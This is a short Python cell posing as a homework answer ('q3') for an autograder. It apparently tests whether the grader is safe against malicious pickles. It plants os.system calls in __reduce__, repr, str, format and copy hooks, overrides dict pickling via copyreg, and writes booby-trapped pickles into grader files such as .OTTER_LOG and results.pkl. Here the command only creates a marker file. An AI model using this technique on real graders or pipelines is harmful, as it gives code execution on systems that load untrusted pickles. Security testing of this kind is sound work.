# %% q3
import copyreg
import os
import pickle


class Bomb(dict):
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-pickle",)

    __deepcopy__ = __copy__ = __repr__ = __str__ = __format__ = lambda self, *args: os.system(
        "touch /tmp/hostile-pickle"
    )


copyreg.pickle(dict, lambda thing: (os.system, ("touch /tmp/hostile-pickle",)))


def describe(words):
    for name in (".OTTER_LOG", "results.pkl", "model.keras", "cache.joblib"):
        with open(name, "wb") as file:
            pickle.dump(Bomb(), file)
    return Bomb() if words[0] != "red" else {"lengths": pickle.dumps(Bomb()), "longest": Bomb()}
